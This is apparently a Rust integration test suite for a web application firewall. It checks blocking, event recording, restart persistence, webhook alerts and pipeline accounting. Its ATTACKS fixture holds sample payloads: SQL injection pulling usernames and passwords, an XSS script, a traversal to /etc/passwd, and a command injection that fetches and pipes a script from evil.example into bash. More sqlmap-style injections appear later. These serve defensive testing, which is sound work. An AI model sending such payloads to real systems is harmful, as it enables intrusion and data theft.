//! The story of the product, told by the real binary: requests, verdicts, events, tracks, alerts,
//! history.

use parapet_scenarios::client::{self, Session};
use parapet_scenarios::product::{Product, rule_set};
use parapet_scenarios::upstream::Upstream;
use parapet_scenarios::{eventually, skip};
use serde_json::Value;
use std::time::Duration;

const ATTACKS: &[(&str, &str)] = &[
    ("sqli", "/search?q=1%27%20UNION%20SELECT%20username,password%20FROM%20users--%20-"),
    ("xss", "/?a=<script>alert(1)</script>"),
    ("lfi", "/page?file=../../../../etc/passwd"),
    ("rce", "/ping?host=127.0.0.1;wget%20http://evil.example/x.sh%7Cbash"),
];

/// A second in the design; generous here, because test machines are busy: the figure itself comes from a benchmark.
const SOON: Duration = Duration::from_secs(10);

fn events(session: &Session, query: &str) -> Vec<Value> {
    let answer = session.get(&format!("/api/v1/events?{query}"));
    assert_eq!(answer.status, 200, "{}", answer.body);
    answer.json().as_array().expect("an array of events").clone()
}

#[test]
fn attacks_are_blocked_and_ordinary_requests_pass() {
    if rule_set().is_none() {
        return skip("attacks_are_blocked_and_ordinary_requests_pass", "no rule set");
    }
    let mut product = Product::start("");
    let session = Session::login(product.console, &product.login);

    let benign = client::get(product.gateway, "/products?category=shoes&page=2").expect("an answer");
    assert_eq!(benign.status, 200, "{}", benign.body);
    assert!(benign.body.contains("Welcome to the shop"));
    let reached = product.upstream.received().len();

    for (class, target) in ATTACKS {
        let answer = client::get(product.gateway, target).expect("an answer");
        assert_eq!(answer.status, 403, "{class} {target}: {}", answer.body);
        let id = answer.header("X-Request-Id").expect("a blocked answer names its request").to_owned();
        assert!(answer.body.contains(&id), "the page shows the request id");
        let event = eventually(class, SOON, || {
            let answer = session.get(&format!("/api/v1/events/{id}"));
            (answer.status == 200).then(|| answer.json())
        });
        assert_eq!(event["attack_type"], *class, "{event:#}");
        assert_eq!(event["action"], "blocked");
        assert_eq!(event["track"], "realtime", "{event:#}");
        assert!(event["severity"].as_u64().expect("a number") >= 80, "{event:#}");
        assert!(event["inbound_score"].as_u64() >= event["inbound_threshold"].as_u64());
        let findings = event["findings"].as_array().expect("findings");
        assert!(findings.iter().any(|finding| !finding["scores"].as_array().expect("scores").is_empty()), "{event:#}");
    }
    assert_eq!(product.upstream.received().len(), reached, "no attack reached the application");

    let before: Vec<_> = events(&session, "limit=100&action=blocked").iter().map(|event| event["id"].clone()).collect();
    assert_eq!(before.len(), ATTACKS.len());
    product.kill_and_restart();
    let session = Session::login(product.console, &product.login);
    let after: Vec<_> = events(&session, "limit=100&action=blocked").iter().map(|event| event["id"].clone()).collect();
    assert_eq!(before, after, "history survives a kill without loss or duplicates");
    assert!(product.stop().success(), "a stop on request is a success");
}

#[test]
fn a_response_that_leaks_is_replaced() {
    if rule_set().is_none() {
        return skip("a_response_that_leaks_is_replaced", "no rule set");
    }
    let product = Product::start("");
    let answer = client::get(product.gateway, "/leak").expect("an answer");
    assert_eq!(answer.status, 403, "{}", answer.body);
    assert!(!answer.body.contains("SQL syntax"));
}

#[test]
fn a_scan_stays_on_the_analytics_track_and_pages_nobody() {
    if rule_set().is_none() {
        return skip("a_scan_stays_on_the_analytics_track_and_pages_nobody", "no rule set");
    }
    let product = Product::start("");
    let session = Session::login(product.console, &product.login);
    let scanner = [("User-Agent", "sqlmap/1.8.2#stable (https://sqlmap.org)")];
    let targets = ["/?id=1%20AND%201=1", "/?id=1%27%20OR%20%271%27=%271", "/?id=1%20UNION%20ALL%20SELECT%20NULL--"];
    for target in targets {
        let answer = client::request(product.gateway, "GET", target, &scanner, b"").expect("an answer");
        assert_eq!(answer.status, 403);
    }
    let found = eventually("the scan's events", SOON, || {
        Some(events(&session, "text=sqlmap")).filter(|found| found.len() == targets.len())
    });
    for event in found {
        assert_eq!(event["track"], "analytics", "{event:#}");
    }
    let alerts = session.get("/api/v1/alerts");
    assert_eq!(alerts.json().as_array().map(Vec::len), Some(0), "{}", alerts.body);
}

#[test]
fn an_alert_reaches_a_webhook_in_the_users_own_form() {
    if rule_set().is_none() {
        return skip("an_alert_reaches_a_webhook_in_the_users_own_form", "no rule set");
    }
    let pager = Upstream::start();
    let product = Product::start(&format!(
        "[channels.pager]\nkind = \"webhook\"\nwebhook_url = \"http://{}/hook\"\nallow_private = true\n\
         [channels.pager.payload_template]\ntext = \"Critical security alert detected\"\n\
         [[channels.pager.payload_template.attachments]]\ncolor = \"danger\"\n\
         fields = [{{ title = \"Severity\", value = \"{{{{severity}}}}\" }}, \
         {{ title = \"Source IP\", value = \"{{{{client_ip}}}}\" }}, \
         {{ title = \"Attack Type\", value = \"{{{{attack_type}}}}\" }}]\n",
        pager.address()
    ));
    let session = Session::login(product.console, &product.login);
    assert_eq!(client::get(product.gateway, ATTACKS[0].1).expect("an answer").status, 403);
    let delivered = eventually("the alert", SOON, || pager.received().into_iter().next());
    let payload: Value = serde_json::from_slice(&delivered.body).expect("JSON");
    let fields = &payload["attachments"][0]["fields"];
    assert_eq!(fields[1]["value"], "127.0.0.1", "{payload:#}");
    assert_eq!(fields[2]["value"], "sqli", "{payload:#}");
    let alert = eventually("the delivery on the alert", SOON, || {
        let alerts = session.get("/api/v1/alerts").json();
        let alert = alerts.as_array()?.first()?.clone();
        (alert["deliveries"][0]["state"] == "delivered").then_some(alert)
    });
    assert_eq!(alert["attack_type"], "sqli");
    let id = alert["id"].as_str().expect("an id");
    let answer = session.send("PATCH", &format!("/api/v1/alerts/{id}"), &serde_json::json!({"state": "acknowledged"}));
    assert_eq!(answer.status, 204, "{}", answer.body);
    assert_eq!(session.get("/api/v1/alerts?state=open").json().as_array().map(Vec::len), Some(0));
}

#[test]
fn every_event_is_accounted_for() {
    if rule_set().is_none() {
        return skip("every_event_is_accounted_for", "no rule set");
    }
    let product = Product::start("");
    let session = Session::login(product.console, &product.login);
    for number in 0..50 {
        let target = format!("/?n={number}&q=<script>alert({number})</script>");
        assert_eq!(client::get(product.gateway, &target).expect("an answer").status, 403);
    }
    let ledger = eventually("an empty pipeline", SOON, || {
        let ledger = session.get("/api/v1/ledger").json();
        let hops = ledger.as_object()?;
        hops.values().all(|hop| hop["in_flight"] == 0).then(|| ledger.clone())
    });
    for (hop, count) in ledger.as_object().expect("hops") {
        let dropped: u64 = count["dropped"].as_object().expect("reasons").values().filter_map(Value::as_u64).sum();
        assert_eq!(dropped, 0, "{hop}: {count}");
    }
    assert_eq!(events(&session, "limit=1000").len(), 50);
    let metrics = session.get("/metrics");
    assert!(metrics.body.contains("parapet_"), "{}", metrics.body);
}
